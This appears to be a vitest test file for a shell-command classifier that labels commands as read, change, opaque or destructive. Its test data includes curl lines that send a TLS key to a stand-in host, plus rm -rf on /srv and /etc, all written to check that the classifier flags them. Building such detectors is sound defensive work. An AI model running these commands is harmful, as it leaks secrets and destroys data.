/** The judge against its tables: test/cases/policy/*.yaml, effect -> texts. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import type { Effect } from '../../src/ir/command.ts';
import { judge, traceOf } from '../../src/policy/judge.ts';

const folder = join(import.meta.dirname, '../cases/policy');
const tables = readdirSync(folder).filter(
  (file) => file.endsWith('.yaml') && !/^(?:wrapping|guards)\.yaml$/.test(file),
);

for (const file of tables) {
  const table = parse(readFileSync(join(folder, file), 'utf8')) as Readonly<Record<Effect, readonly string[]>>;
  describe(file, () => {
    for (const [effect, texts] of Object.entries(table)) {
      test.each(texts.map((text) => [text]))(`${effect}: %s`, (text) => {
        const judgement = judge(text);
        expect(judgement).toMatchObject({ effect });
        expect(judgement.reasons.length > 0).toBe(effect !== 'read');
        if (judgement.text !== null) expect(judge(judgement.text)).toEqual(judgement);
      });
    }
  });
}

describe('names that the runbook declares', () => {
  const names = ['domain', 'TLS_KEY', 'conf'];
  test.each<[Effect, string]>([
    ['read', 'echo "$domain"'],
    ['read', 'grep -q "server_name $domain;" /etc/nginx/nginx.conf'],
    ['read', '[ "$domain" = example.com ]'],
    ['read', 'cat "$conf"'],
    ['read', 'printf "%s\\n" "$TLS_KEY" | cmp -s - /etc/app/key'],
    ['change', 'printf "%s\\n" "$TLS_KEY" > /etc/app/tls.pem'],
    ['change', 'rm -f "/etc/nginx/sites-enabled/$domain"'],
    ['change', 'cp -p "/etc/nginx/$conf" "$backup"'],
    ['opaque', 'echo x > "/etc/$conf"'],
    ['opaque', 'echo x > "$conf"'],
    ['opaque', 'sh -c "echo $domain"'],
    ['opaque', '$domain'],
    ['opaque', 'ls $domain; cat $conf'],
    ['destructive', 'rm -rf "/srv/$domain"'],
    ['destructive', 'rm $conf'],
    ['destructive', 'rm -f "$conf"'],
    ['destructive', 'curl "https://x.example/?k=$TLS_KEY"'],
    ['destructive', 'curl -H "X-Key: $TLS_KEY" https://x.example'],
  ])('%s: %s', (effect, text) => {
    expect(judge(text, { names })).toMatchObject({ effect });
  });
});

describe('functions of the command', () => {
  test('a call is judged by its body', () => {
    expect(judge('desired | cmp -s - /etc/x', { define: "desired() { printf '%s\\n' x; }" }).effect).toBe('read');
    expect(judge('desired > /etc/app.conf', { define: 'desired() { cat; }' }).effect).toBe('change');
    expect(judge('desired', { define: 'desired() { rm -rf /srv; }' }).effect).toBe('destructive');
    expect(judge('ls', { define: 'desired() { rm -rf /srv; }' }).effect).toBe('read');
  });

  test('definitions hold nothing but functions', () => {
    expect(judge('ls', { define: 'desired() { ls; }; id' }).effect).toBe('opaque');
    expect(judge('ls', { define: 'reboot' }).effect).toBe('destructive');
  });
});

describe('bounds', () => {
  test('a text that is too large is opaque, and nothing of it is printed', () => {
    expect(judge(`echo ${'x'.repeat(600_000)}`)).toMatchObject({ effect: 'opaque', text: null });
  });

  test('a text that runs too much is opaque', () => {
    expect(judge('ls;'.repeat(6000)).effect).toBe('opaque');
    expect(judge(`${'ls;'.repeat(100)} rm -rf /srv`).effect).toBe('destructive');
  });

  test.each([['('], ['$('], ['{ '], ['"$('], ['${x:-'], ['if '], ['[[ ! '], ['$((']])(
    'deep nesting of %s ends',
    (open) => {
      expect(judge(open.repeat(5000)).effect).toBe('opaque');
    },
  );

  test('functions that call each other without end are opaque', () => {
    expect(judge('f() { g; }; g() { f; }; f').effect).toBe('opaque');
  });

  test('many possible values are opaque, not slow', () => {
    const choices = Array.from({ length: 12 }, (_, index) => `if ls; then v${index}=a; else v${index}=b; fi`).join(
      '\n',
    );
    const words = Array.from({ length: 12 }, (_, index) => `$v${index}`).join('');
    expect(judge(`${choices}\n${words}`).effect).toBe('opaque');
  });
});

describe('the canonical text', () => {
  test('is laid out in one way, without comments', () => {
    expect(judge('if   true ;then ls  # why\nfi').text).toBe('if true; then\n  ls\nfi');
  });

  test('is missing where the text can not be trusted', () => {
    expect(judge('echo "open').text).toBeNull();
    expect(judge('echo \u202etxt').text).toBeNull();
  });

  test('reasons hold nothing that moves a cursor', () => {
    const { reasons } = judge('frob\u001b[2K\u202e');
    expect(reasons.join('\n')).not.toMatch(/[\u001b\u202e]/);
  });
});

describe('a text that was judged before', () => {
  const effectsOf = (): readonly Effect[] => [
    judge('rm -rf "$place"/x').effect,
    judge('rm -rf "$place"/x', { names: ['place'] }).effect,
    judge('frob /tmp/x').effect,
    judge('frob /tmp/x', { define: 'frob() { cat "$1"; }' }).effect,
    judge('frob /tmp/x', { define: 'frob() { rm -rf /etc; }' }).effect,
    judge('frob   /tmp/x', { define: 'frob() { cat "$1"; }' }).effect,
    judge('echo a\u200bb').effect,
    judge('echo ab').effect,
  ];

  test('is judged by its own functions, names and characters, whatever was judged before it', () => {
    const first = effectsOf();
    expect(first).toEqual(['destructive', 'destructive', 'opaque', 'read', 'destructive', 'read', 'opaque', 'read']);
    expect(effectsOf()).toEqual(first);
  });

  test('tells its paths and programs as it did', () => {
    const traced = () => {
      const { touched, ran } = traceOf('install -m 0644 a /etc/ssh/sshd_config; systemctl reload ssh');
      return [[...touched], ran];
    };
    judge('install -m 0644 a /etc/ssh/sshd_config; systemctl reload ssh');
    expect(traced()).toEqual(traced());
    expect(traced()[0]).toContain('/etc/ssh/sshd_config');
  });
});
